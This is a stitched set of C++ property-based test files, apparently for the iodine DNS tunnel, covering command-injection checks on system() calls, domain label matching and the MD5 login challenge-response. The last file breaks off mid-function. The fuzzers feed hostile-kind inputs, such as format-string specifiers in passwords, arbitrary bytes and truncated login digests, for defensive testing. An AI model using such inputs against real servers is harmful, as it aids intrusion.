	// oracle
	static const char *WORDS[] = {"PATH=/sbin:/bin", "ifconfig", "dns0", "netmask", "mtu", "/sbin/ifconfig", "/sbin/route", "route", "add"};
	for (auto &cmd : sys) {
		for (unsigned char ch : cmd) if (ch < 0x20 || ch == 0x7f) r.fail("C13:control-char", "a command passed to system() contains a control character: " + json_escape(cmd));
		size_t i = 0;
		while (i <= cmd.size()) {
			size_t j = cmd.find(' ', i); if (j == std::string::npos) j = cmd.size();
			std::string w = cmd.substr(i, j - i);
			bool ok = false;
			for (const char *fw : WORDS) if (w == fw) ok = true;
			if (!ok && strict_quad(w)) ok = true;
			if (!ok && !w.empty() && w.size() <= 4 && w.find_first_not_of("0123456789") == std::string::npos) { int v = atoi(w.c_str()); ok = v >= 201 && v <= 1500 && w[0] != '0'; }
			if (!ok) r.fail("C13:peer-text-in-command", "word '" + json_escape(w) + "' of the command passed to system() is neither a fixed word, a strict dotted quad nor an integer in the accepted range: " + json_escape(cmd));
			i = j + 1;
		}
	}
	std::string shown = json_escape(reply.substr(0, 120));
	r.render = fmt("type=%s enc=%c login-queries=%d reply(%zu)=\"%s\" -> %zu system() calls", refproto::qtype_name(c.qtype), enc, login_seen, reply.size(), shown.c_str(), sys.size());
	for (auto &cmd : sys) r.render += " | " + json_escape(cmd);
	if (benign) {
		r.cls("benign-control");
		if (login_seen && sys.size() != 2) r.fail("C13:control", "a benign login reply did not produce the two expected configuration commands: " + r.render + "\n" + s.cli[0]->log.substr(0, 600));
	}
	if (sim::W.livelock) r.fail("C13:livelock", "simulation did not make progress");
	if (!login_seen) r.cls("login-not-reached");
	// would the reply parse as four fields?
	{
		char a[65], b[65]; int m, n;
		std::string z = reply.substr(0, reply.find('\0'));
		bool four = sscanf(z.c_str(), "%64[^-]-%64[^-]-%d-%d", a, b, &m, &n) == 4;
		if (four) r.cls("parses-as-four-fields");
		r.nontrivial = login_seen && four && !benign && (k1 || k2 || k3 || k4 || whole_random);
	}
	if (!sys.empty()) r.cls("commands-executed");
	r.cls(std::string("enc:") + enc);
	return r;
}

static CaseResult run_case(Tape &t) { return t.pick({2, 1}) == 0 ? system_case(t) : unit_case(t); }

int main(int argc, char **argv)
{
	PropDef d; d.id = "C13"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
