// C17 -- tunnel domain validation and query matching follow label boundaries exactly.
// Unit shape: check_topdomain / query_datalen (via glue/unit_api.c) against the label-wise reference
// in ref/refmisc.cc.  Exhaustive over short strings of the alphabet {a,A,b,-,.,*,0}; random long names.
#include "sim/harness.h"
#include "sim/scenario.h"
#include "ref/refdns.h"
#include "ref/refproto.h"
#include "glue/unit_api.h"
#include "ref/refmisc.h"
#include <cstring>
using namespace hz;

static const char ALPHA[] = {'a', 'A', 'b', '-', '.', '*', '0'};

static bool name_form_ok(const std::string &q)   // forms the name reader can produce: no empty labels
{
	if (q.empty() || q[0] == '.' || q.back() == '.') return false;
	return q.find("..") == std::string::npos;
}

static std::string chk_valid(const std::string &s, int wild, std::string *sig)
{
	std::vector<char> buf(s.begin(), s.end()); buf.push_back(0);
	int rc = v_check_topdomain(buf.data(), wild);
	bool ref_ok = ref::valid_topdomain(s, wild != 0);
	if ((rc == 0) != ref_ok) { *sig = "C17:validate"; return std::string("check_topdomain(\"") + s + "\", wildcard=" + std::to_string(wild) + ") " + (rc == 0 ? "accepts" : "rejects") + " but the rule says " + (ref_ok ? "accept" : "reject"); }
	return "";
}

static std::string chk_match(const std::string &q, const std::string &dom, std::string *sig)
{
	int got = v_query_datalen(q.c_str(), dom.c_str());
	int want = ref::match_datalen(q, dom);
	if (got != want) { *sig = "C17:match"; return "query_datalen(\"" + q + "\", \"" + dom + "\") = " + std::to_string(got) + ", label-wise rule gives " + std::to_string(want); }
	return "";
}

static const char *DOMAINS[] = {"a.b", "A.b", "a.bb", "b.a.b", "ab.0", "a-b.a", "0.a", "*.a.b", "*.b.a", "*.ab.0", "*.A.B", "aa.b", "*.a"};
static const int NDOM = 13;

static std::string rand_label(Tape &t, int maxlen, bool hostile)
{
	int n = t.range(1, maxlen);
	std::string s;
	for (int i = 0; i < n; i++) {
		if (hostile && t.chance(1, 12)) s += (char)t.range(1, 255) == '.' ? 'x' : (char)t.range(1, 255);
		else s += "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-*"[t.below(64)];
	}
	for (auto &c : s) if (c == '.' || c == 0) c = 'x';
	return s;
}

static CaseResult dispatch_case(Tape &t);

static CaseResult run_case(Tape &t)
{
	if (t.chance(1, 300)) return dispatch_case(t);
	CaseResult r;
	std::string sig, e;
	if (t.chance(1, 3)) {
		// validation: length/label boundary cases by construction
		std::string s;
		int nl = t.range(1, 5);
		for (int i = 0; i < nl; i++) {
			int len;
			switch (t.pick({4, 2, 2, 1})) { case 0: len = t.range(1, 12); break; case 1: len = 63; break; case 2: len = 64; break; default: len = t.range(60, 66); break; }
			if (i) s += '.';
			if (i == 0 && t.chance(1, 4)) s += "*";
			else for (int k = 0; k < len; k++) s += "abcXYZ019-"[t.below(10)];
		}
		switch (t.below(8)) {
		case 0: s += '.'; break;
		case 1: s = "." + s; break;
		case 2: { size_t p = t.below((uint32_t)s.size() + 1); s.insert(p, ".."); break; }
		case 3: { size_t p = t.below((uint32_t)s.size()); s[p] = (char)t.range(1, 255); break; }
		case 4: while (s.size() < 128u + t.below(3)) s += (s.size() % 50 == 49) ? '.' : 'a'; break;
		case 5: s = s.substr(0, t.range(0, 4)); break;
		default: break;
		}
		for (auto &c : s) if (c == 0) c = 'a';
		int wild = (int)t.below(2);
		e = chk_valid(s, wild, &sig);
		r.render = "validate \"" + s + "\" wildcard=" + std::to_string(wild);
		r.nontrivial = s.size() >= 3;
		r.cls("validate");
	} else {
		// matching: a valid domain (plain or wildcard) and a query name related to it
		std::string dom;
		int nl = t.range(2, 4);
		bool wild = t.chance(1, 3);
		for (int i = 0; i < nl; i++) { if (i) dom += '.'; dom += (i == 0 && wild) ? std::string("*") : rand_label(t, t.chance(1, 8) ? 63 : 8, false); }
		for (auto &c : dom) if (c == '*' && &c != &dom[0]) c = 'w';
		if (!ref::valid_topdomain(dom, true)) dom = wild ? "*.a.b" : "a.b";
		std::string q;
		std::string suffix = wild ? dom.substr(2) : dom;
		switch (t.pick({4, 2, 2, 2, 2, 1})) {
		case 0: q = rand_label(t, 30, true) + "." + (wild ? rand_label(t, 10, true) + "." : std::string()) + suffix; break;   // inside
		case 1: { q = rand_label(t, t.chance(1, 2) ? 10 : 57, true) + suffix;                   // glued without dot (xfoo.com)
			  int pre = (int)t.below(4); for (int i = 0; i < pre && q.size() < 180; i++) q = rand_label(t, 57, true) + "." + q; break; }
		case 2: q = (wild ? rand_label(t, 5, true) + "." : std::string()) + suffix; break;    // exactly the domain
		case 3: q = rand_label(t, 10, true) + "." + suffix.substr(1); break;                  // suffix missing first char
		case 4: q = rand_label(t, 20, true) + "." + rand_label(t, 10, true); break;           // unrelated
		default: { q = rand_label(t, 57, true); while (q.size() + suffix.size() + 60 < 250) q += "." + rand_label(t, 57, true); q += "." + suffix; break; }
		}
		// random case flips
		if (t.chance(1, 2)) for (auto &c : q) if (t.chance(1, 4)) { if (c >= 'a' && c <= 'z') c = (char)(c - 32); else if (c >= 'A' && c <= 'Z') c = (char)(c + 32); }
		// look-alikes: one character of the part that has to match the domain (or the dot in front of it) is replaced by a byte that
		// equals it under a sloppy comparison (bit 5 / bit 6 / bit 7 flipped) or by an arbitrary byte; query labels may carry any byte
		if (t.chance(1, 5) && q.size() > 1) {
			size_t span = std::min(q.size(), suffix.size() + 1);
			size_t pos = q.size() - 1 - t.below((uint32_t)span);
			unsigned char o = (unsigned char)q[pos], n;
			switch (t.pick({3, 2, 2, 2})) { case 0: n = (unsigned char)(o ^ 0x20); break; case 1: n = (unsigned char)(o ^ 0x40); break; case 2: n = (unsigned char)(o ^ 0x80); break; default: n = (unsigned char)t.range(1, 255); break; }
			if (n != 0 && n != '.') q[pos] = (char)n;
		}
		if (!name_form_ok(q) || q.size() > 255) q = "a." + suffix;
		e = chk_match(q, dom, &sig);
		r.render = "match \"" + q + "\" against \"" + dom + "\"";
		// non-trivial: shares a suffix of >= 3 characters with the domain
		size_t k = 0; while (k < q.size() && k < suffix.size() && tolower((unsigned char)q[q.size() - 1 - k]) == tolower((unsigned char)suffix[suffix.size() - 1 - k])) k++;
		r.nontrivial = k >= 3;
		r.cls(wild ? "match-wild" : "match-plain");
	}
	if (!e.empty()) r.fail(sig, e);
	return r;
}

// Dispatch case: the real iodined with -b (queries outside the tunnel domain are relayed to a local resolver), serving a plain or a
// wildcard domain.  NS queries are sent for generated names; a name the label-wise rule places under the domain (also the domain
// itself and, for a wildcard, exactly one label in front of its fixed part) must be answered by iodined itself with an NS record and
// must NOT reach the resolver; every other name must be relayed to the resolver and must NOT be answered by iodined on its own.
static CaseResult dispatch_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.forward_port = 5353; c.nclients = 0; c.srv_seed = t.u32() | 1;
	static const char *DOM[] = {"t.example.com", "a.io", "Tun.Example.ORG", "x1.y2.z3.net"};
	c.domain = DOM[t.below(4)];
	bool wild = t.chance(1, 3);
	if (wild) { size_t dot = c.domain.find('.'); c.srv_domain = "*" + c.domain.substr(dot); }
	std::string sdom = wild ? c.srv_domain : c.domain;
	scn::Session s(c);
	s.start_server();
	sim::Addr resolver = sim::Addr::v4(127, 0, 0, 1, 5353), asker = sim::Addr::v4(203, 0, 113, 5, 7000);
	std::vector<Bytes> at_resolver, at_asker;
	sim::W.actors[resolver] = [&](const sim::Datagram &dg) { at_resolver.push_back(dg.data); };
	sim::W.actors[asker] = [&](const sim::Datagram &dg) { at_asker.push_back(dg.data); };
	sim::W.run_for(20000);
	std::string fixed = wild ? sdom.substr(2) : sdom;
	int n = t.range(3, 12), n_in = 0, n_out = 0, n_bare = 0;
	for (int k = 0; k < n && r.ok; k++) {
		std::string q;
		switch (t.pick({3, 3, 2, 2, 2, 1})) {
		case 0: q = wild ? rand_label(t, 8, true) + "." + fixed : fixed; break;                                        // exactly the domain (no data at all)
		case 1: q = rand_label(t, 12, true) + "." + (wild ? rand_label(t, 6, true) + "." : std::string()) + fixed; break;   // data in front
		case 2: q = rand_label(t, 9, true) + fixed; break;                                                              // glued: no label boundary
		case 3: q = rand_label(t, 8, true) + "." + fixed.substr(1); break;                                              // first character of the domain missing
		case 4: q = rand_label(t, 10, true) + "." + rand_label(t, 6, true) + ".org"; break;                             // unrelated
		default: q = wild ? fixed : rand_label(t, 5, true) + "." + fixed + "." + rand_label(t, 3, true); break;          // fixed part alone under a wildcard / domain in the middle
		}
		if (t.chance(1, 2)) for (auto &ch : q) if (t.chance(1, 3)) { if (ch >= 'a' && ch <= 'z') ch = (char)(ch - 32); else if (ch >= 'A' && ch <= 'Z') ch = (char)(ch + 32); }
		if (!name_form_ok(q) || q.size() > 253) continue;
		bool labels_ok = true; { size_t st = 0; for (size_t i = 0; i <= q.size(); i++) if (i == q.size() || q[i] == '.') { if (i - st < 1 || i - st > 63) labels_ok = false; st = i + 1; } }
		if (!labels_ok) continue;
		int want = ref::match_datalen(q, sdom);
		size_t r0 = at_resolver.size(), a0 = at_asker.size();
		sim::Datagram dg; dg.src = asker; dg.dst = scn::SRV4; dg.data = refproto::make_query((uint16_t)(500 + k), q, 2 /* NS */, false);
		sim::W.send(dg); sim::W.run_for(5000);
		bool relayed = at_resolver.size() > r0, answered = false;
		for (size_t i = a0; i < at_asker.size(); i++) { refdns::Msg m; if (refdns::parse(at_asker[i], m).empty() && m.qr() && !m.answers.empty() && m.answers[0].type == refdns::T_NS) answered = true; }
		if (want >= 0) { n_in++; if (want == 0) n_bare++; }
		else n_out++;
		std::string ctx = "NS query for \"" + q + "\" with the server domain \"" + sdom + "\" (label-wise data length " + std::to_string(want) + ")";
		if (want >= 0 && relayed) r.fail("C17:dispatch", ctx + " was relayed to the resolver although the name lies under the tunnel domain");
		else if (want >= 0 && !answered) r.fail("C17:dispatch", ctx + " was not answered by iodined although the name lies under the tunnel domain");
		else if (want < 0 && answered) r.fail("C17:dispatch", ctx + " was answered by iodined itself although the name is outside the tunnel domain");
		else if (want < 0 && !relayed) r.fail("C17:dispatch", ctx + " was not relayed to the resolver although the name is outside the tunnel domain");
	}
	r.render = "dispatch: server domain \"" + sdom + "\", " + std::to_string(n_in) + " names inside (" + std::to_string(n_bare) + " with no data), " + std::to_string(n_out) + " outside";
	if (!r.ok) r.why += " [" + r.render + "]";
	r.nontrivial = n_in >= 1 && n_out >= 1;
	r.cls("dispatch"); if (wild) r.cls("dispatch-wildcard"); if (n_bare) r.cls("dispatch-name-equals-domain");
	return r;
}

static int level = 1;

static bool exhaustive(Stats &st, std::string &msg)
{
	std::string sig;
	int maxv = 7, maxm = level >= 2 ? 8 : 7;
	uint64_t nval = 0, nmatch = 0, nmatch_nt = 0;
	// all strings up to length maxv over the alphabet; split by first character across processes
	std::string s;
	std::vector<int> idx;
	for (int len = 0; len <= std::max(maxv, maxm); len++) {
		idx.assign(len, 0);
		for (;;) {
			bool mine = len == 0 ? enum_part == 0 : ((idx[0] + (len > 1 ? idx[1] * 7 : 0)) % enum_parts == enum_part);
			if (mine) {
				s.clear();
				for (int i : idx) s += ALPHA[i];
				if (len <= maxv) {
					for (int w = 0; w < 2; w++) {
						std::string e = chk_valid(s, w, &sig);
						if (!e.empty()) { msg = sig + ": " + e; return false; }
						nval++;
					}
					st.add_enum(fnv(s.data(), s.size(), 77), len >= 3, "enum:validate");
				}
				if (len <= maxm && name_form_ok(s)) {
					for (int d = 0; d < NDOM; d++) {
						std::string e = chk_match(s, DOMAINS[d], &sig);
						if (!e.empty()) { msg = sig + ": " + e; return false; }
						nmatch++;
					}
					// non-trivial: ends (case-insensitively) with a 3-char suffix of some domain in the set
					bool nt = false;
					if (s.size() >= 3) for (int d = 0; d < NDOM && !nt; d++) { std::string dm = DOMAINS[d]; if (dm.size() >= 3 && strcasecmp(s.c_str() + s.size() - 3, dm.c_str() + dm.size() - 3) == 0) nt = true; }
					if (nt) nmatch_nt++;
					st.add_enum(fnv(s.data(), s.size(), 99), nt, "enum:match");
				}
			}
			int k = len - 1;
			while (k >= 0 && ++idx[k] == 7) { idx[k] = 0; k--; }
			if (k < 0) break;
		}
	}
	// constructed length-boundary cases for validation
	if (enum_part == 0) {
		for (int l1 = 61; l1 <= 65; l1++) for (int l2 = 1; l2 <= 65; l2 += 31) for (int w = 0; w < 2; w++) for (int star = 0; star < 2; star++) {
			std::string d = (star ? std::string("*.") : std::string()) + std::string(l1, 'a') + "." + std::string(l2, 'b');
			std::string e = chk_valid(d, w, &sig);
			if (!e.empty()) { msg = sig + ": " + e; return false; }
			nval++;
		}
		for (int tot = 120; tot <= 132; tot++) for (int w = 0; w < 2; w++) {
			std::string d;
			while ((int)d.size() < tot) d += (d.size() % 40 == 39) ? '.' : 'c';
			if (d.back() == '.') d.back() = 'c';
			std::string e = chk_valid(d, w, &sig);
			if (!e.empty()) { msg = sig + ": " + e; return false; }
			nval++;
		}
	}
	st.extra["enum_validations"] = std::to_string(nval);
	st.extra["enum_matches"] = std::to_string(nmatch);
	st.extra["enum_matches_sharing_suffix"] = std::to_string(nmatch_nt);
	st.sample("enumerated: every string of length <= 7 over {a,A,b,-,.,*,0} x wildcard flag (validation); every name of length <= " + std::to_string(maxm) + " without empty labels against 13 plain and wildcard domains (matching)", true);
	return true;
}

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i++) if (!strcmp(argv[i], "--level")) level = atoi(argv[i + 1]);
	PropDef d; d.id = "C17"; d.run = run_case; d.exhaustive = exhaustive; d.tape_scale = 6.0;
	return harness_main(argc, argv, d);
}
