// C19 -- login response follows the documented challenge-response for all inputs.
// Unit part: login_calculate (through glue/unit_api.c) against an independent MD5 + the formula of
// doc/proto_00000502.txt.  System part (real client + real server over simnet, raw mode on): the
// bytes of the client's login message and of both raw-mode login frames are compared with the
// reference for challenge, challenge+1 and challenge-1.
#include "sim/harness.h"
#include "sim/scenario.h"
#include "glue/unit_api.h"
#include "ref/refmisc.h"
#include "ref/refproto.h"
#include "client_common.h"
using namespace hz;

static std::string hx(const uint8_t *p, size_t n) { return hexs(Bytes(p, p + n), 64); }

static uint32_t gen_challenge(Tape &t)
{
	switch (t.pick({3, 2, 2, 1})) {
	case 0: return t.u32();
	case 1: { static const uint32_t b[] = {0, 1, 0xffffffffu, 0x7fffffffu, 0x80000000u, 0x80000001u, 0xfffffffeu, 0x00ff00ffu, 0xff00ff00u, 0x01020304u}; return b[t.below(10)]; }
	case 2: return 1u << t.below(32);
	default: return ~(1u << t.below(32));
	}
}

static CaseResult unit_case(Tape &t)
{
	CaseResult r;
	size_t plen = t.pick({1, 6, 2, 2}) == 0 ? 0 : (size_t)t.range(1, 40);
	Bytes pw(plen);
	int pclass = (int)t.below(3);
	for (auto &b : pw) b = pclass == 0 ? (uint8_t)t.range(1, 255) : (pclass == 1 ? (uint8_t)t.range(0x21, 0x7e) : (uint8_t)t.range(0x80, 0xff));
	uint32_t ch = gen_challenge(t);
	// the programs keep the password in a zeroed 33-byte buffer, truncated to 32 characters
	char buf33[33]; memset(buf33, 0, sizeof buf33);
	memcpy(buf33, pw.data() ? (const char *)pw.data() : "", std::min<size_t>(plen, 32));
	uint8_t want[16], got[16 + 8];
	memset(got, 0xEE, sizeof got);
	ref::login_hash(pw, ch, want);
	v_login_calculate((char *)got, 16, buf33, (int)ch);
	char hd[200]; snprintf(hd, sizeof hd, "unit: password(%zu)=%s challenge=0x%08x", plen, hexs(pw, 40).c_str(), ch);
	r.render = hd;
	if (memcmp(want, got, 16)) r.fail("C19:digest", "login_calculate != MD5(pad32(pw) xor 8xBE(challenge)): got " + hx(got, 16) + " want " + hx(want, 16) + " [" + r.render + "]");
	for (int i = 16; i < 24; i++) if (got[i] != 0xEE) r.fail("C19:overrun", "wrote past 16 output bytes");
	// buflen < 16 writes nothing
	uint8_t small[24]; memset(small, 0xEE, sizeof small);
	v_login_calculate((char *)small, (int)t.below(16), buf33, (int)ch);
	for (int i = 0; i < 24; i++) if (small[i] != 0xEE) r.fail("C19:short-buffer", "buflen < 16 but output written");
	// metamorphic: dependence on challenge bits and on each of the first 32 password bytes
	uint8_t o2[16];
	uint32_t ch2 = ch ^ (1u << t.below(32));
	v_login_calculate((char *)o2, 16, buf33, (int)ch2);
	if (!memcmp(o2, got, 16)) r.fail("C19:challenge-insensitive", "flipping a challenge bit does not change the digest");
	char b2[33]; memcpy(b2, buf33, 33);
	int pos = (int)t.below(32);
	b2[pos] = (char)(b2[pos] ^ (1 << t.below(8)));
	v_login_calculate((char *)o2, 16, b2, (int)ch);
	if (!memcmp(o2, got, 16)) r.fail("C19:password-insensitive", "changing password byte " + std::to_string(pos) + " does not change the digest");
	// bytes beyond 32 are irrelevant
	char b3[40]; memset(b3, 0, sizeof b3); memcpy(b3, buf33, 32); b3[32] = (char)t.below(256); b3[33] = 'x';
	v_login_calculate((char *)o2, 16, b3, (int)ch);
	if (memcmp(o2, got, 16)) r.fail("C19:reads-beyond-32", "byte 33 of the password buffer influences the digest");
	r.nontrivial = plen > 0;
	r.cls(plen > 32 ? "pw>32" : (plen == 32 ? "pw=32" : "pw<32"));
	r.cls("unit");
	return r;
}

// real client + real server, raw mode attempted; compare wire bytes with the reference
static CaseResult system_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.password.clear();
	size_t plen = (size_t)t.range(1, 36);
	int pclass = (int)t.below(2);
	for (size_t i = 0; i < plen; i++) c.password += (char)(pclass == 0 ? t.range(0x21, 0x7e) : t.range(0x80, 0xfe));
	// the password reaches the programs through -P or through the environment (IODINE_PASS / IODINED_PASS); passwords may contain '%'
	if (t.chance(1, 3)) { static const char *PCT[] = {"%%", "%d", "%s", "%5c", "100%", "%x%x", "%%%%"}; std::string ins = PCT[t.below(7)]; size_t at = t.below((uint32_t)c.password.size() + 1); c.password.insert(at, ins); if (c.password.size() > 36) c.password.resize(36); }
	c.pass_env_client = t.chance(1, 3); c.pass_env_server = t.chance(1, 3);
	// -P and the environment both set, to different values: -P wins on both sides
	if (!c.pass_env_client && t.chance(1, 3)) c.decoy_env_client = c.password.size() > 3 ? c.password.substr(0, 3) : std::string("zz");
	if (!c.pass_env_server && t.chance(1, 3)) c.decoy_env_server = c.password.size() > 3 ? c.password.substr(0, 3) : std::string("zz");
	c.raw_mode = true;
	c.qtype = (int)t.below(8);   // 0 = autodetect
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	c.frag = 200;
	scn::Session s(c);
	Bytes pw(c.password.begin(), c.password.end());
	// the challenge the server issues is its first rand() value: two cases in three force a boundary value of rand()'s range
	static const int FORCED[] = {0, 1, 2, 0x7fffffff, 0x7ffffffe, 0x40000000, 0x3fffffff, 0x00ffffff, 0x01000000, 0x7fffff00};
	int forced = t.chance(2, 3) ? FORCED[t.below(10)] : -1;
	struct Seen { bool login = false, rawc = false, raws = false; std::string err; uint32_t challenge = 0; bool have_ch = false; int nlog = 0, nrawc = 0, nraws = 0, nrawping = 0; sim::Addr client_from, client_to; bool have_from = false; } S;
	sim::W.on_send = [&](const sim::Datagram &dg) {
		const Bytes &d = dg.data;
		if (dg.from_inst == s.srv->idx) {
			// VACK carries the challenge
			refproto::Answer a;
			if (refproto::decode_answer(d, a) && a.ok && a.payload.size() >= 9 && !memcmp(a.payload.data(), "VACK", 4) && !S.have_ch) {
				S.challenge = ((uint32_t)a.payload[4] << 24) | ((uint32_t)a.payload[5] << 16) | ((uint32_t)a.payload[6] << 8) | a.payload[7];
				S.have_ch = true;
			}
			if (d.size() >= 20 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e && (d[3] & 0xf0) == 0x10) {
				uint8_t w[16]; ref::login_hash(pw, S.challenge - 1, w);
				S.nraws++;
				if (memcmp(w, d.data() + 4, 16)) S.err = "server raw login reply is not hash(challenge-1)";
				else S.raws = true;
			}
		} else if (dg.from_inst == s.cli[0]->idx) {
			if (d.size() >= 20 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e && (d[3] & 0xf0) == 0x10) {
				uint8_t w[16]; ref::login_hash(pw, S.challenge + 1, w);
				S.nrawc++; S.client_from = dg.src; S.client_to = dg.dst; S.have_from = true;
				if (!S.have_ch || memcmp(w, d.data() + 4, 16)) S.err = "client raw login is not hash(challenge+1)";
				else S.rawc = true;
			} else if (d.size() >= 4 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e && ((d[3] & 0xf0) == 0x30 || (d[3] & 0xf0) == 0x20)) {
				S.nrawping++;
			} else {
				refproto::Query q;
				if (refproto::decode_query(d, c.domain, q) && (q.cmd == 'l' || q.cmd == 'L')) {
					Bytes body = ref::codec_decode(0, q.rest, true);
					uint8_t w[16]; ref::login_hash(pw, S.challenge, w);
					S.nlog++;
					if (!S.have_ch || body.size() < 17 || memcmp(w, body.data() + 1, 16)) S.err = "bytes 1..16 of the login message are not hash(challenge)";
					else S.login = true;
				}
			}
		}
	};
	s.start_server();
	if (forced >= 0) s.srv->rand_forced.push_back(forced);
	// one case in three: the server's first 1..3 raw login replies are lost on the way; the client repeats its raw login (it tries
	// four times) and every repeat must be answered with hash(challenge-1) again
	int lose_replies = t.chance(1, 3) ? 1 + (int)t.below(3) : 0, lost = 0;
	// one case in three (taken from the client's seed, so that pinned tapes keep their meaning): while the client waits for the reply to
	// its first raw login another datagram reaches its socket first -- a late copy of the DNS answer it got last, or a raw login frame
	// with a digest that is not the server's; the client sends its next attempt at once, and that attempt (like every one) must carry
	// hash(challenge+1)
	int stray_kind = ((c.cli_seed >> 8) % 3 == 0) ? 1 + (int)((c.cli_seed >> 12) & 1) : 0, strays = 0;
	Bytes last_dns_answer; sim::Addr last_dns_src, last_dns_dst;
	if (lose_replies || stray_kind) {
		int srv_idx = s.srv->idx, cli_idx = -1;
		sim::W.router = [&, srv_idx, cli_idx](const sim::Datagram &dg) mutable {
			const Bytes &d = dg.data;
			bool rawlogin = d.size() >= 20 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e && (d[3] & 0xf0) == 0x10;
			if (dg.from_inst == srv_idx && !rawlogin && d.size() >= 20) { last_dns_answer = d; last_dns_src = dg.src; last_dns_dst = dg.dst; }
			if (dg.from_inst == srv_idx && lost < lose_replies && rawlogin) { lost++; return; }
			if (dg.from_inst != srv_idx && rawlogin && stray_kind && strays < 2 && !last_dns_answer.empty()) {
				sim::Datagram x; x.src = dg.dst; x.dst = dg.src;
				if (stray_kind == 1) { x.data = last_dns_answer; x.src = last_dns_src; x.dst = last_dns_dst; }
				else { x.data = Bytes(d.begin(), d.begin() + 4); for (int k = 0; k < 16; k++) x.data.push_back((uint8_t)(c.cli_seed >> (k % 4 * 8)) ^ (uint8_t)(k * 37)); }
				strays++;
				sim::W.deliver_after(x, sim::W.latency_us / 2);   // ahead of the server's reply
			}
			sim::W.deliver_after(dg, sim::W.latency_us);
		};
	}
	s.start_client(0);
	bool up = s.wait_handshake(0, 120);
	if (up) sim::W.run_for(3000000);
	// a raw login that carries only part of the digest must not be accepted -- not even right after the complete one, when the
	// missing bytes still sit in the server's receive buffer
	int n_after_full = -1, n_after_cut = -1; size_t cutlen = 0;
	if (up && S.raws && S.have_ch && t.chance(1, 2)) {
		uint8_t w[16]; ref::login_hash(pw, S.challenge + 1, w);
		int user = -1;
		// the user number is in the client's log ("You are user #N")
		{ size_t pz = s.cli[0]->log.find("You are user #"); if (pz != std::string::npos) user = atoi(s.cli[0]->log.c_str() + pz + 14); }
		if (user >= 0) {
			Bytes full = refproto::raw_frame(1, user, Bytes(w, w + 16));
			int before = S.nraws;
			sim::Datagram a; a.src = S.client_from; a.dst = S.client_to; a.data = full;
			if (S.have_from) { sim::W.send(a); sim::W.run_for(3000); n_after_full = S.nraws - before;
				cutlen = 16 + t.below(4); a.data.assign(full.begin(), full.begin() + cutlen); before = S.nraws;
				// the simulator fills a receive buffer beyond the datagram with a residue pattern; here the residue is what a real buffer
				// would hold: the rest of the complete frame received just before
				int rm = sim::W.residue_mode; Bytes rd = sim::W.residue_data;
				sim::W.residue_mode = 2; sim::W.residue_data.assign(full.begin() + cutlen, full.end());
				sim::W.send(a); sim::W.run_for(3000); n_after_cut = S.nraws - before;
				sim::W.residue_mode = rm; sim::W.residue_data = rd; }
		}
	}
	char hd[256]; snprintf(hd, sizeof hd, "system: password(%zu)=%s type=%d challenge=0x%08x handshake=%d rawlogin c=%d s=%d", plen, hexs(pw, 40).c_str(), c.qtype, S.challenge, (int)up, S.nrawc, S.nraws);
	r.render = hd;
	if (!S.err.empty()) r.fail("C19:wire", S.err + " [" + r.render + "]");
	else if (!up) r.fail("C19:handshake", "honest handshake did not complete [" + r.render + "]\n" + s.cli[0]->log);
	else if (!S.login || !S.rawc || !S.raws) r.fail("C19:coverage", "login / raw login frames not observed [" + r.render + "]");
	else if (S.nrawping == 0) r.fail("C19:raw-not-entered", "server answered the raw login with hash(challenge-1) but the client did not switch to raw mode [" + r.render + "]");
	if (r.ok && n_after_cut > 0) r.fail("C19:partial-digest-accepted", "a raw login frame cut to " + std::to_string(cutlen) + " bytes (only part of the digest), sent right after the complete one, was answered [" + r.render + "]");
	if (n_after_cut >= 0) r.cls("system:cut-raw-login-after-complete-one");
	if (r.ok && forced >= 0 && S.challenge != (uint32_t)forced) r.fail("C19:harness", "the forced challenge was not issued [" + r.render + "]");
	r.nontrivial = S.login && S.rawc && S.raws;
	r.cls("system");
	if (lost) r.cls("raw-login-reply-lost-and-repeated");
	if (strays) r.cls(stray_kind == 1 ? "stray-dns-answer-during-raw-login" : "stray-raw-login-frame-with-wrong-digest");
	if (c.pass_env_client || c.pass_env_server) r.cls("password-from-environment");
	if (c.password.find('%') != std::string::npos) r.cls("password-with-percent");
	if (forced >= 0) r.cls("system:boundary-challenge");
	return r;
}

// real client against a scripted server (reference implementation) that issues ANY 32-bit challenge, also values the real
// server's rand() never produces (>= 2^31) and the wrap-around cases of challenge+1 / challenge-1
static CaseResult client_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.password.clear();
	size_t plen = (size_t)t.range(1, 36);
	int pclass = (int)t.below(2);
	for (size_t i = 0; i < plen; i++) c.password += (char)(pclass == 0 ? t.range(0x21, 0x7e) : t.range(0x80, 0xfe));
	if (t.chance(1, 3)) { static const char *PCT[] = {"%%", "%d", "%s", "%5c", "100%", "%x%x", "%%%%"}; std::string ins = PCT[t.below(7)]; size_t at = t.below((uint32_t)c.password.size() + 1); c.password.insert(at, ins); if (c.password.size() > 36) c.password.resize(36); }
	c.pass_env_client = t.chance(1, 2);
	c.raw_mode = true; c.qtype = 1 + (int)t.below(7); c.cli_seed = t.u32() | 1; c.frag = 200; c.nclients = 1;
	scn::Session s(c);
	cli::ScriptServer srv;
	srv.domain = c.domain; srv.password.assign(c.password.begin(), c.password.end());
	srv.seed = gen_challenge(t); srv.userid = (int)t.below(16);
	srv.attach();
	Bytes pw = srv.password;
	int nlog = 0, nraw = 0, nrawtraffic = 0; std::string err;
	sim::W.on_send = [&](const sim::Datagram &dg) {
		if (dg.from_inst < 0) return;
		const Bytes &d = dg.data;
		if (d.size() >= 4 && d[0] == 0x10 && d[1] == 0xd1 && d[2] == 0x9e) {
			if ((d[3] & 0xf0) == 0x10) { uint8_t w[16]; ref::login_hash(pw, srv.seed + 1, w); nraw++; if (d.size() < 20 || memcmp(w, d.data() + 4, 16)) err = "client raw login is not hash(challenge+1)"; }
			else nrawtraffic++;
			return;
		}
		refproto::Query q;
		if (refproto::decode_query(d, c.domain, q) && (q.cmd == 'l' || q.cmd == 'L')) {
